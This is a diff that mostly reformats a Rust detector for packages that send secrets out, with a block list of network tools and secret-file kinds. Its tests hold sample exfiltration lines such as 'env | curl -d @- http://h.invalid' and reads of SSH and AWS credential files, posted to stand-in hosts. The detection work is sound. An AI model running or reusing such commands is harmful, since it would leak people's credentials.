@@ -2,14 +2,14 @@
 
 use std::collections::BTreeSet;
 
+use Severity::{High, Low, Medium};
 use spip_core::{
     Act, Check, Contents, Context, Deed, Finding, Package, Severity, Stop, Taints, Trigger,
 };
-use Severity::{High, Low, Medium};
 
 use crate::contents::{
-    self, Address, Menace, NOTHING, Suspicions, addresses, belongs, belongs_to_any, commands, endpoint,
-    is_early, secret, weigh,
+    self, Address, Menace, NOTHING, Suspicions, addresses, belongs, belongs_to_any, commands,
+    endpoint, is_early, secret, weigh,
 };
 
 describe! {
@@ -53,10 +53,28 @@ const STRONG: Taints = Taints(
 const PRIVATE: Taints = Taints(Taints::BROWSER.0 | Taints::WALLET.0 | Taints::CALLER_SOURCE.0);
 
 /// Kinds of secret files that belong to nobody else.
-const NEVER_SENT: &[&str] = &["ssh", "gnupg", "passwords", "history", "keychain", "browser", "chat", "wallet"];
+const NEVER_SENT: &[&str] = &[
+    "ssh",
+    "gnupg",
+    "passwords",
+    "history",
+    "keychain",
+    "browser",
+    "chat",
+    "wallet",
+];
 
 /// Kinds of secret files that are sent to their own service only.
-const OWN_SERVICE: &[&str] = &["aws", "gcloud", "azure", "kubernetes", "docker", "git", "pypi", "npm"];
+const OWN_SERVICE: &[&str] = &[
+    "aws",
+    "gcloud",
+    "azure",
+    "kubernetes",
+    "docker",
+    "git",
+    "pypi",
+    "npm",
+];
 
 impl Check for SecretExfiltration {
     fn run(
@@ -78,11 +96,18 @@ impl Check for SecretExfiltration {
                 suspicions.command(severity, "sends secrets to another machine", &command);
             } else if menaces.contains(&Menace::SendsIdentity) {
                 let severity = weigh(command.trigger, High, Low);
-                suspicions.command(severity, "tells another machine who and where it runs", &command);
+                suspicions.command(
+                    severity,
+                    "tells another machine who and where it runs",
+                    &command,
+                );
             }
         }
         beside(&contents, &mut suspicions);
-        suspicions.report("do not install it; where it ran, replace every secret it could read", found);
+        suspicions.report(
+            "do not install it; where it ran, replace every secret it could read",
+            found,
+        );
         Ok(())
     }
 }
@@ -104,7 +129,15 @@ fn sent(contents: &Contents, act: &Act) -> Option<Severity> {
     let strong = act.taints.only(STRONG);
     if !is_early(act.trigger) {
         let severity = sent_on_use(contents, act, &addresses);
-        return weigh(act.trigger, if strong.is_empty() { NOTHING } else { Some(High) }, severity);
+        return weigh(
+            act.trigger,
+            if strong.is_empty() {
+                NOTHING
+            } else {
+                Some(High)
+            },
+            severity,
+        );
     }
     if !strong.is_empty() {
         return Some(High);
@@ -122,9 +155,14 @@ fn sent(contents: &Contents, act: &Act) -> Option<Severity> {
 /// Whether one of its arguments is the file that an answer is written to.
 fn writes_a_file(act: &Act) -> bool {
     let callee = act.callee.to_ascii_lowercase();
-    ["urlretrieve", "wget.download", "download_file", "retrbinary"]
-        .iter()
-        .any(|it| callee.contains(it))
+    [
+        "urlretrieve",
+        "wget.download",
+        "download_file",
+        "retrbinary",
+    ]
+    .iter()
+    .any(|it| callee.contains(it))
 }
 
 fn sent_on_use(contents: &Contents, act: &Act, addresses: &[Address]) -> Option<Severity> {
@@ -135,7 +173,10 @@ fn sent_on_use(contents: &Contents, act: &Act, addresses: &[Address]) -> Option<
     let is_hidden = addresses.is_empty() && act.taints.any(Taints::ASSEMBLED.with(Taints::DECODED));
     let is_mail = act.callee.contains("smtplib") || act.callee.contains("ftplib");
     let is_foreign = addresses.iter().any(Address::is_foreign) || is_hidden || is_mail;
-    let is_shady = addresses.iter().filter_map(endpoint).any(contents::Endpoint::is_shady);
+    let is_shady = addresses
+        .iter()
+        .filter_map(endpoint)
+        .any(contents::Endpoint::is_shady);
     let is_open = act.taints.any(Taints::PARAMETER);
     if is_shady {
         return Some(if is_open { Medium } else { High });
@@ -180,14 +221,31 @@ fn is_own(address: &Address, kinds: &BTreeSet<&'static str>) -> bool {
 
 /// The kinds of secrets that a file of the package reads.
 fn kinds(contents: &Contents, member: &str) -> BTreeSet<&'static str> {
-    let reads = contents.acts_of(Deed::Read).filter(|act| act.site.member == member);
-    reads.flat_map(|act| &act.texts).filter_map(|text| secret(text)).collect()
+    let reads = contents
+        .acts_of(Deed::Read)
+        .filter(|act| act.site.member == member);
+    reads
+        .flat_map(|act| &act.texts)
+        .filter_map(|text| secret(text))
+        .collect()
 }
 
 /// Whether a program that talks to other machines is handed secrets.
 fn hands_over(command: &contents::Command<'_>) -> bool {
     let is_client = command.steps.iter().any(|step| {
-        matches!(step.program.as_str(), "curl" | "wget" | "nc" | "ncat" | "netcat" | "scp" | "ftp" | "socat" | "sendmail" | "mail")
+        matches!(
+            step.program.as_str(),
+            "curl"
+                | "wget"
+                | "nc"
+                | "ncat"
+                | "netcat"
+                | "scp"
+                | "ftp"
+                | "socat"
+                | "sendmail"
+                | "mail"
+        )
     });
     // The environment as a whole is handed to every program.
     is_client && command.taints.any(STRONG.without(Taints::ENVIRONMENT))
@@ -195,25 +253,40 @@ fn hands_over(command: &contents::Command<'_>) -> bool {
 
 /// Secrets that are read and data that is sent in one file, where no flow between them shows.
 fn beside<'c>(contents: &'c Contents, suspicions: &mut Suspicions<'c>) {
-    let members: BTreeSet<&str> = contents.acts_of(Deed::Read).map(|act| act.site.member.as_str()).collect();
+    let members: BTreeSet<&str> = contents
+        .acts_of(Deed::Read)
+        .map(|act| act.site.member.as_str())
+        .collect();
     for member in members {
-        let of = |deed: Deed| contents.acts_of(deed).filter(move |act| act.site.member == member);
+        let of = |deed: Deed| {
+            contents
+                .acts_of(deed)
+                .filter(move |act| act.site.member == member)
+        };
         let sends: Vec<_> = of(Deed::Send)
             .filter(|act| {
                 let addresses = addresses(act);
-                addresses.is_empty() || !addresses.iter().all(|it| it.is_local() || belongs_to_any(it))
+                addresses.is_empty()
+                    || !addresses
+                        .iter()
+                        .all(|it| it.is_local() || belongs_to_any(it))
             })
             .collect();
         if sends.iter().any(|act| sent(contents, act) >= Some(Medium)) {
             continue;
         }
         let sends_early = sends.iter().any(|act| is_early(act.trigger));
-        let sends_abroad = sends.iter().any(|act| addresses(act).iter().any(Address::is_foreign));
+        let sends_abroad = sends
+            .iter()
+            .any(|act| addresses(act).iter().any(Address::is_foreign));
         let kinds = kinds(contents, member).len();
         for act in of(Deed::Read) {
             let (severity, what) = match act.trigger {
                 Trigger::Never => continue,
-                Trigger::Call => (collected(kinds, sends_abroad), "collects secrets of many kinds and sends data"),
+                Trigger::Call => (
+                    collected(kinds, sends_abroad),
+                    "collects secrets of many kinds and sends data",
+                ),
                 _ if sends_early => (read_and_sent(act), "reads secrets and sends data"),
                 _ => (read(act, kinds), "reads secrets unasked"),
             };
@@ -258,34 +331,68 @@ mod tests {
     const FOREIGN: &str = "https://collector.invalid/x";
 
     fn post(url: &str, taints: Taints) -> ActBuilder {
-        act(Deed::Send, "requests.post").texts(&[url]).tainted(taints)
+        act(Deed::Send, "requests.post")
+            .texts(&[url])
+            .tainted(taints)
     }
 
     fn read(path: &str) -> ActBuilder {
-        act(Deed::Read, "open").texts(&[path]).tainted(Taints::SECRET_FILE)
+        act(Deed::Read, "open")
+            .texts(&[path])
+            .tainted(Taints::SECRET_FILE)
     }
 
     fn reading(paths: &[&str], trigger: Trigger) -> World {
-        paths.iter().fold(demo(), |world, path| world.acting(read(path).when(trigger)))
+        paths
+            .iter()
+            .fold(demo(), |world, path| world.acting(read(path).when(trigger)))
     }
 
     #[test]
     fn flags_secrets_that_are_sent_unasked() {
-        for taints in [Taints::SECRET_FILE, Taints::ENVIRONMENT, Taints::BROWSER, Taints::WALLET, Taints::CLOUD_METADATA, Taints::SECRET_VARIABLE, Taints::CALLER_SOURCE] {
+        for taints in [
+            Taints::SECRET_FILE,
+            Taints::ENVIRONMENT,
+            Taints::BROWSER,
+            Taints::WALLET,
+            Taints::CLOUD_METADATA,
+            Taints::SECRET_VARIABLE,
+            Taints::CALLER_SOURCE,
+        ] {
             let expected = "high: sends secrets to another machine, when it is imported";
-            assert_shows(&SecretExfiltration, demo().acting(post(FOREIGN, taints)), expected);
-            assert_shows(&SecretExfiltration, demo().acting(post("\u{fffc}", taints)), expected);
+            assert_shows(
+                &SecretExfiltration,
+                demo().acting(post(FOREIGN, taints)),
+                expected,
+            );
+            assert_shows(
+                &SecretExfiltration,
+                demo().acting(post("\u{fffc}", taints)),
+                expected,
+            );
         }
     }
 
     #[test]
     fn flags_who_and_where_when_it_is_told_unasked() {
         let world = demo().acting(post(FOREIGN, Taints::IDENTITY).when(Trigger::Build));
-        assert_shows(&SecretExfiltration, world, "high: tells another machine who and where it runs, when it is built");
+        assert_shows(
+            &SecretExfiltration,
+            world,
+            "high: tells another machine who and where it runs, when it is built",
+        );
         let world = demo().acting(post(FOREIGN, Taints::PLATFORM));
-        assert_shows(&SecretExfiltration, world, "low: tells another machine who and where it runs, when it is imported");
+        assert_shows(
+            &SecretExfiltration,
+            world,
+            "low: tells another machine who and where it runs, when it is imported",
+        );
         let told = act(Deed::Spawn, "os.system").texts(&["curl http://h.invalid/$(hostname)"]);
-        assert_shows(&SecretExfiltration, demo().acting(told), "high: tells another machine who and where it runs, when it is imported");
+        assert_shows(
+            &SecretExfiltration,
+            demo().acting(told),
+            "high: tells another machine who and where it runs, when it is imported",
+        );
     }
 
     #[test]
@@ -296,11 +403,26 @@ mod tests {
         let sweep = ["~/.aws/credentials", "~/.npmrc", "~/.kube/config"];
         for (paths, url, taints, expected) in [
             (&["~/.ssh/id_rsa"][..], FOREIGN, Taints::SECRET_FILE, medium),
-            (&["~/.aws/credentials"], FOREIGN, Taints::SECRET_FILE, medium),
+            (
+                &["~/.aws/credentials"],
+                FOREIGN,
+                Taints::SECRET_FILE,
+                medium,
+            ),
             (&sweep, FOREIGN, Taints::SECRET_FILE, high),
-            (&["~/.netrc"], "https://x.oast.fun", Taints::SECRET_FILE, high),
+            (
+                &["~/.netrc"],
+                "https://x.oast.fun",
+                Taints::SECRET_FILE,
+                high,
+            ),
             (&["Chrome/User Data/x"], FOREIGN, Taints::BROWSER, medium),
-            (&["~/.ssh/id_rsa"], FOREIGN, Taints::BROWSER.with(Taints::WALLET), high),
+            (
+                &["~/.ssh/id_rsa"],
+                FOREIGN,
+                Taints::BROWSER.with(Taints::WALLET),
+                high,
+            ),
             (&[], FOREIGN, Taints::ENVIRONMENT, medium),
         ] {
             let world = reading(paths, call).acting(post(url, taints).when(call));
@@ -312,24 +434,40 @@ mod tests {
     fn flags_programs_that_are_handed_secrets() {
         let expected = "high: sends secrets to another machine, when it is imported";
         let curl = act(Deed::Spawn, "subprocess.run").texts(&["curl -d \u{fffc} http://h.invalid"]);
-        assert_shows(&SecretExfiltration, demo().acting(curl.tainted(Taints::SECRET_FILE)), expected);
+        assert_shows(
+            &SecretExfiltration,
+            demo().acting(curl.tainted(Taints::SECRET_FILE)),
+            expected,
+        );
         let shell = act(Deed::Spawn, "os.system").texts(&["env | curl -d @- http://h.invalid"]);
         assert_shows(&SecretExfiltration, demo().acting(shell), expected);
     }
 
     #[test]
     fn flags_reading_beside_sending_unasked() {
-        let world = reading(&["~/.ssh/id_rsa"], Trigger::Import).acting(post(FOREIGN, Taints::NONE));
-        assert_shows(&SecretExfiltration, world, "high: reads secrets and sends data, when it is imported");
+        let world =
+            reading(&["~/.ssh/id_rsa"], Trigger::Import).acting(post(FOREIGN, Taints::NONE));
+        assert_shows(
+            &SecretExfiltration,
+            world,
+            "high: reads secrets and sends data, when it is imported",
+        );
         let world = reading(&["~/.ssh/id_rsa", "~/.npmrc", "~/.pypirc"], Trigger::Import);
-        assert_shows(&SecretExfiltration, world, "high: reads secrets unasked, when it is imported");
+        assert_shows(
+            &SecretExfiltration,
+            world,
+            "high: reads secrets unasked, when it is imported",
+        );
     }
 
     #[test]
     fn accepts_clients_of_clouds_and_services() {
         let call = Trigger::Call;
         for (path, url) in [
-            ("~/.config/gcloud/application_default_credentials.json", "https://oauth2.googleapis.com/token"),
+            (
+                "~/.config/gcloud/application_default_credentials.json",
+                "https://oauth2.googleapis.com/token",
+            ),
             ("~/.aws/credentials", "https://sts.amazonaws.com"),
             ("~/.aws/credentials", "\u{fffc}"),
             ("~/.pypirc", "https://upload.pypi.org/legacy/"),
@@ -341,10 +479,19 @@ mod tests {
         }
         let key = post(FOREIGN, Taints::SECRET_VARIABLE).when(call);
         let metadata = post("http://169.254.169.254/latest", Taints::CLOUD_METADATA);
-        assert_shows(&SecretExfiltration, demo().acting(key).acting(metadata), "complete");
-        let download = act(Deed::Send, "urllib.request.urlretrieve").texts(&[FOREIGN]).tainted(Taints::IDENTITY).when(Trigger::Build);
+        assert_shows(
+            &SecretExfiltration,
+            demo().acting(key).acting(metadata),
+            "complete",
+        );
+        let download = act(Deed::Send, "urllib.request.urlretrieve")
+            .texts(&[FOREIGN])
+            .tainted(Taints::IDENTITY)
+            .when(Trigger::Build);
         assert_shows(&SecretExfiltration, demo().acting(download), "complete");
-        let compiler = act(Deed::Spawn, "subprocess.run").texts(&["gcc x.c"]).tainted(Taints::ENVIRONMENT);
+        let compiler = act(Deed::Spawn, "subprocess.run")
+            .texts(&["gcc x.c"])
+            .tainted(Taints::ENVIRONMENT);
         assert_shows(&SecretExfiltration, demo().acting(compiler), "complete");
     }
 
